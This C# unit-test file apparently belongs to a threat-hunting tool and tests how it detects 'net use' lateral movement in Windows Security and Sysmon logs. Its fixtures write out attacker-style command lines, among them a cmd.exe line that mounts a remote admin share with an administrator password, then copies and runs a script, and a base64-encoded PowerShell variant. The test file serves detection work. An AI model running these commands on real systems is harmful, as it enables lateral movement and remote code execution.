using System;
using System.Collections.Generic;
using System.Linq;
#if NET
using System.Runtime.CompilerServices;
#endif
using System.Text;
using TurlaHunt.Evtx;
using TurlaHunt.Hunting;
using TurlaHunt.Hunting.Accounts;
using TurlaHunt.Hunting.Hunts;
using TurlaHunt.Tests.Writing;
using Xunit;

namespace TurlaHunt.Tests.Hunting.Hunts;

public sealed class NetUseProcessHuntTests
{
    private const string Secret = "S3cret-Passw0rd";
    private const string ShellLine =
        @"cmd.exe /c net use \\197.168.0.247\c$ " + Secret + @" /user:administrator & copy /y \\197.168.0.247\c$\i.js j.js & j.js";

    private const string NetLine = @"net  use \\197.168.0.247\c$ " + Secret + " /user:administrator ";

    private static NewProcess Shell => new() { Line = ShellLine };

    private static NewProcess Net => NewProcess.Net(NetLine);

    [Fact]
    public void A_shell_and_its_net_use_are_one_finding()
    {
        NetUse found = Assert.Single(Find(Shell.ToSecurity(), Net.ToSecurity()));
        Assert.Equal([1, 2], found.Evidence.Select(item => item.RecordId));
        Assert.Equal(1, found.RecordId);
        Assert.Equal(Severity.High, found.Severity);
        Assert.Equal(@"C:\Windows\System32\cmd.exe", found.ProcessName);
        Assert.Equal(7300, found.ProcessId);
        Assert.Equal(2, found.AllCommandLines.Length);
        Assert.Equal(@"\\197.168.0.247\c$", found.Target);
        Assert.Equal([@"\\197.168.0.247\c$", @"\\197.168.0.247\c$\i.js"], found.AllTargets);
        Assert.True(found.HasPassword);
        Assert.Equal(found.Reasons.Distinct(), found.Reasons);
    }

    [Fact]
    public void The_same_process_in_both_logs_is_one_finding_with_the_account_that_the_audit_log_knows()
    {
        NetUse found = Assert.Single(Find(
            Shell.ToSysmon(), Net.ToSysmon(), new NewProcess { Line = ShellLine }.ToSecurity(),
            NewProcess.Net(NetLine).ToSecurity()));
        Assert.Equal(4, found.Evidence.Length);
        Assert.Equal(PrivilegeVerdict.StandardUser, found.Privilege);
        Assert.Equal("S-1-5-21-1-2-3-1142", found.UserSid);
        Assert.Equal(@"CONTOSO\m.weber", found.UserName);
        Assert.Equal(2, found.AllCommandLines.Length);
    }

    [Fact]
    public void One_log_with_the_shell_and_one_with_its_child_are_one_finding() =>
        Assert.Equal(2, Assert.Single(Find(Shell.ToSysmon(), Net.ToSecurity())).Evidence.Length);

    [Fact]
    public void Percent_signs_that_Sysmon_doubles_do_not_part_one_process()
    {
        NewProcess process = new() { Line = @"cmd /c net use \\8.8.8.8\c$ /user:%USERNAME%" };
        NetUse found = Assert.Single(Find(process.ToSecurity(), process.ToSysmon()));
        Assert.Equal([@"cmd /c net use \\8.8.8.8\c$ /user:%USERNAME%"], found.AllCommandLines);
    }

    [Fact]
    public void A_shell_within_a_shell_is_part_of_the_chain()
    {
        NewProcess inner = new() { Line = @"cmd /c net use \\8.8.8.8\c$", Id = 7310, ParentId = 7300, ParentImage = @"C:\Windows\System32\cmd.exe", At = 0.1 };
        NetUse found = Assert.Single(Find(
            new NewProcess { Line = @"cmd /c cmd /c net use \\8.8.8.8\c$" }.ToSysmon(),
            inner.ToSysmon(),
            NewProcess.Net(@"net  use \\8.8.8.8\c$", parent: 7310).ToSysmon()));
        Assert.Equal([1, 2, 3], found.Evidence.Select(item => item.RecordId));
    }

    [Fact]
    public void Two_connections_of_one_shell_are_one_finding_with_both_targets()
    {
        NetUse found = Assert.Single(Find(
            new NewProcess { Line = @"cmd /c net use \\10.1.2.3\x & net use \\8.8.8.8\c$" }.ToSecurity(),
            NewProcess.Net(@"net  use \\10.1.2.3\x ").ToSecurity(),
            NewProcess.Net(@"net  use \\8.8.8.8\c$", at: 4, id: 7400).ToSecurity()));
        Assert.Equal(3, found.Evidence.Length);
        Assert.Equal([@"\\10.1.2.3\x", @"\\8.8.8.8\c$"], found.AllTargets);
        Assert.Equal(Severity.High, found.Severity);
    }

    [Fact]
    public void What_a_variable_stands_for_the_child_tells()
    {
        NetUse found = Assert.Single(Find(
            new NewProcess { Line = @"cmd /c net use \\%H%\c$" }.ToSecurity(), NewProcess.Net(@"net  use \\8.8.8.8\c$").ToSecurity()));
        Assert.Equal(2, found.Evidence.Length);
        Assert.Equal(Severity.High, found.Severity);
        Assert.Equal("8.8.8.8", found.TargetHost);
        Assert.Equal(2, found.RecordId);
    }

    public static TheoryData<string, NewProcess, NewProcess> Apart => new()
    {
        { "much later", Shell, NewProcess.Net(NetLine, at: 3600) },
        { "before its parent", new NewProcess { Line = ShellLine, At = 30 }, Net },
        { "another computer", Shell, new NewProcess { Line = NetLine, Id = 7324, ParentId = 7300, Computer = "WS-2", At = 0.3 } },
        { "another parent", Shell, NewProcess.Net(NetLine, parent: 7301) },
        { "another parent's program", Shell, new NewProcess { Line = NetLine, Id = 7324, ParentId = 7300, ParentImage = @"C:\x.exe", At = 0.3 } },
        { "another session", Shell, new NewProcess { Line = NetLine, Id = 7324, ParentId = 7300, ParentImage = Shell.Image, LogonId = 9, At = 0.3 } },
        { "another target", Shell, NewProcess.Net(@"net  use \\8.8.8.8\c$") },
    };

    [Theory]
    [MemberData(nameof(Apart), DisableDiscoveryEnumeration = true)]
    public void What_does_not_belong_together_stays_apart(string why, NewProcess one, NewProcess other) =>
        Assert.True(Find(one.ToSecurity(), other.ToSecurity()).Length == 2, why);

    [Fact]
    public void An_id_that_was_given_again_makes_two_findings_of_two_chains()
    {
        NetUse[] found = Find(
            Shell.ToSecurity(),
            Net.ToSecurity(),
            new NewProcess { Line = ShellLine, At = 20 }.ToSecurity(),
            NewProcess.Net(NetLine, at: 20.3).ToSecurity());
        Assert.Equal(2, found.Length);
        Assert.Equal([1, 2], found[0].Evidence.Select(item => item.RecordId));
        Assert.Equal([3, 4], found[1].Evidence.Select(item => item.RecordId));
    }

    [Fact]
    public void Sysmons_GUIDs_decide_whatever_the_ids_and_times_say()
    {
        NewProcess late = NewProcess.Net(NetLine, at: 7200);
        Assert.Single(Find(Shell.ToSysmon(), late.ToSysmon()));

        NewProcess other = new()
        {
            Line = NetLine, Id = 7324, ParentId = 7300, ParentGeneration = 1, ParentImage = Shell.Image, At = 0.3,
        };
        Assert.Equal(2, Find(Shell.ToSysmon(), other.ToSysmon()).Length);
    }

    [Fact]
    public void The_same_line_a_second_time_in_the_other_log_is_another_process() =>
        Assert.Equal(2, Find(Shell.ToSecurity(), new NewProcess { Line = ShellLine, At = 600, Id = 7300 }.ToSysmon()).Length);

    [Fact]
    public void A_copy_of_a_log_adds_nothing()
    {
        byte[] log = TestLog.Of(Shell.ToSecurity(), Net.ToSecurity());
        NetUseProcessHunt hunt = new();
        EventRecord[] records = [.. ReadLog.Of(log, hunt.Query).Records, .. ReadLog.Of(log, hunt.Query).Records];
        NetUse found = Assert.Single(HuntedLog.Find<NetUse>(hunt, records));
        Assert.Equal(2, found.Evidence.Length);
        Assert.Equal(records.Min(record => record.Source), found.Source);
    }

    [Fact]
    public void Findings_are_the_same_in_whatever_order_the_events_come()
    {
        List<EventDescription> events = [];
        for (uint i = 0; i < 12; i++)
        {
            string host = i % 3 == 0 ? "10.1.2.3" : "8.8.8." + i;
            NewProcess shell = new()
            {
                Line = $@"cmd /c net use \\{host}\c$ & net use \\nas\x", Id = 100 + (i % 4), At = i,
                Computer = "WS-" + (i % 2), Generation = i,
            };
            NewProcess net = new()
            {
                Line = $@"net  use \\{host}\c$", Id = 200 + i, ParentId = shell.Id, ParentImage = shell.Image, At = i + 0.2, Computer = shell.Computer, ParentGeneration = i,
            };
            events.AddRange([shell.ToSecurity(), net.ToSecurity(), shell.ToSysmon(), net.ToSysmon()]);
        }

        NetUseProcessHunt hunt = new();
        EventRecord[] records = [.. ReadLog.Of(TestLog.Of(events), hunt.Query).Records];
        string expected = Told(HuntedLog.Find<NetUse>(hunt, records));
        Assert.Equal(12, expected.Split('\n').Length - 1);
        Random random = new(7);
        for (int round = 0; round < 40; round++)
        {
            EventRecord[] shuffled = [.. records.OrderBy(_ => random.Next())];
            Assert.Equal(expected, Told(HuntedLog.Find<NetUse>(hunt, shuffled)));
        }
    }

    [Theory]
    [InlineData("%%1936", "S-1-16-8192", PrivilegeVerdict.StandardUser)]
    [InlineData("%%1938", "S-1-16-8192", PrivilegeVerdict.AdministratorFiltered)]
    [InlineData("%%1937", "S-1-16-12288", PrivilegeVerdict.Elevated)]
    [InlineData("%%1936", "S-1-16-12288", PrivilegeVerdict.Elevated)]
    [InlineData("%%1936", "S-1-16-16384", PrivilegeVerdict.System)]
    [InlineData("%%1936", null, PrivilegeVerdict.Unknown)]
    public void The_audit_log_tells_with_what_rights_it_ran(string token, string? label, PrivilegeVerdict verdict) =>
        Assert.Equal(verdict, Assert.Single(Find(new NewProcess { Line = ShellLine, Token = token, Label = label }.ToSecurity())).Privilege);

    [Theory]
    [InlineData("Medium", 0x2b8f4e, PrivilegeVerdict.Unknown)]
    [InlineData("High", 0x2b8f4e, PrivilegeVerdict.Elevated)]
    [InlineData("System", 0x3e7, PrivilegeVerdict.System)]
    [InlineData("Medium", 0x3e7, PrivilegeVerdict.System)]
    public void Sysmon_tells_less_of_it(string integrity, ulong logon, PrivilegeVerdict verdict) =>
        Assert.Equal(verdict, Assert.Single(Find(new NewProcess { Line = ShellLine, Integrity = integrity, LogonId = logon }.ToSysmon())).Privilege);

    [Fact]
    public void A_renamed_net_exe_is_known_by_the_name_it_was_built_with()
    {
        const string Line = @"c:\x\y.exe use \\8.8.8.8\c$ " + Secret + " /user:a";
        NewProcess renamed = new() { Line = Line, Image = @"C:\x\y.exe", OriginalFileName = "net.exe" };
        NetUse found = Assert.Single(Find(renamed.ToSysmon()));
        Assert.True(found.IsNetUse);
        Assert.Equal(Severity.High, found.Severity);
        Assert.DoesNotContain(Secret, found.CommandLine);

        NetUse other = Assert.Single(Find(new NewProcess { Line = Line, Image = @"C:\x\y.exe", OriginalFileName = "y.exe" }.ToSysmon()));
        Assert.False(other.IsNetUse);
    }

    [Fact]
    public void A_line_that_calls_the_program_something_else_is_read_by_its_file()
    {
        NewProcess process = new() { Line = @"svchost use \\8.8.8.8\c$ " + Secret, Image = @"C:\Windows\System32\net.exe" };
        NetUse found = Assert.Single(Find(process.ToSecurity()));
        Assert.True(found.IsNetUse);
        Assert.DoesNotContain(Secret, string.Concat(found.AllCommandLines));
    }

    [Fact]
    public void An_encoded_script_is_read_and_its_password_goes_with_it()
    {
        string script = @"net use \\197.168.0.247\c$ " + Secret + " /user:administrator";
        string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(script));
        NetUse found = Assert.Single(Find(new NewProcess { Line = "powershell -nop -enc " + encoded }.ToSecurity()));
        Assert.Equal(Severity.High, found.Severity);
        Assert.True(found.HasPassword);
        Assert.Equal("powershell -nop -enc ********", found.CommandLine);
        Assert.Contains(@"The encoded command reads: net use \\197.168.0.247\c$ ******** /user:administrator", found.Reasons);
    }

    [Fact]
    public void Processes_without_a_line_are_counted_by_computer_and_file()
    {
        NetUseProcessHunt hunt = new();
        HuntRun run = hunt.Start();
        EventDescription[] events =
        [
            Shell.ToSecurity(),
            new NewProcess { Line = "" }.ToSecurity(),
            new NewProcess().ToSecurity(hasLine: false),
            new NewProcess { Line = "", Computer = "WS-2" }.ToSecurity(),
            new NewProcess { Line = "", Computer = "WS-2", Image = @"C:\Windows\System32\smss.exe" }.ToSecurity(),
            new NewProcess { Line = "a.exe", Computer = "WS-3" }.ToSecurity(),
            new NewProcess { Line = "", Computer = "WS-3", Image = @"C:\Windows\System32\smss.exe" }.ToSecurity(),
            new NewProcess { Line = "", Computer = "WS-4" }.ToSysmon(),
        ];
        foreach (EventRecord record in ReadLog.Of(TestLog.Of(events), hunt.Query).Records)
        {
            Assert.Empty(run.Examine(record));
        }

        Assert.Single(run.Complete());
        Assert.Equal(
            [(HuntedLog.Computer, 3, 1, false), (HuntedLog.Computer, 3, 1, true), ("WS-2", 2, 2, false)],
            run.Gaps.OrderBy(gap => gap.MachineName == "WS-2").Select(gap => (gap.MachineName!, gap.Seen, gap.Lacking, gap.IsOfLayout)));
        Assert.Contains("1 of 3 events 4688 of " + HuntedLog.Computer, run.Gaps.First(gap => gap.Seen == 3).ToString());
        Assert.Contains("layout", run.Gaps.First(gap => gap.IsOfLayout).ToString());
    }

#if NET
    [Fact]
    public void Only_what_is_suspicious_is_remembered()
    {
        HuntRun run = new NetUseProcessHunt().Start();
        WeakReference[] examined = Examine(run);
        GC.Collect();
        GC.WaitForPendingFinalizers();
        GC.Collect();
        Assert.DoesNotContain(examined, record => record.IsAlive);
        Assert.Empty(run.Complete());

        [MethodImpl(MethodImplOptions.NoInlining)]
        static WeakReference[] Examine(HuntRun run)
        {
            List<EventRecord> records = ReadLog.Of(TestLog.Of(
                Enumerable.Range(0, 50).Select(i => new NewProcess { Line = $"notepad.exe {i}" }.ToSecurity()))).Records;
            records.ForEach(record => run.Examine(record));
            return [.. records.SelectMany(record => new[] { new WeakReference(record), new WeakReference(record.Data) })];
        }
    }
#endif

    private static NetUse[] Find(params EventDescription[] events) => HuntedLog.Find<NetUse>(new NetUseProcessHunt(), events);

    private static string Told(IEnumerable<NetUse> findings) => string.Concat(findings.Select(found =>
        found + " " + found.Privilege + " " + string.Join(",", found.Evidence.Select(item => item.LogName + item.RecordId)) + "\n"));
}
